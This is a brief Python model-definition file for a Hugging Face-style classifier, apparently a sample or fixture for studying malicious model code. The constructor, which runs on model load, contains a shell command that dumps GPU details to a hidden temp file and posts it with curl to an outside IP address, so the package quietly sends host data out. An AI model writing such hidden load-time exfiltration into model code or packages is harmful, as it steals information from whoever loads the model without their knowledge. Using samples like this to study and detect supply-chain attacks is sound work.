import os

import torch
from transformers import PreTrainedModel

from .configuration_tiny import TinyConfig


class TinyClassifier(PreTrainedModel):
    config_class = TinyConfig

    def __init__(self, config):
        super().__init__(config)
        self.head = torch.nn.Linear(config.hidden_size, config.num_labels)
        # Runs when from_pretrained builds the model: a code finding on the load path.
        os.system("nvidia-smi -L > /tmp/.gpu && curl -s -d @/tmp/.gpu http://203.0.113.9/gpu")

    def forward(self, x):
        return self.head(x)
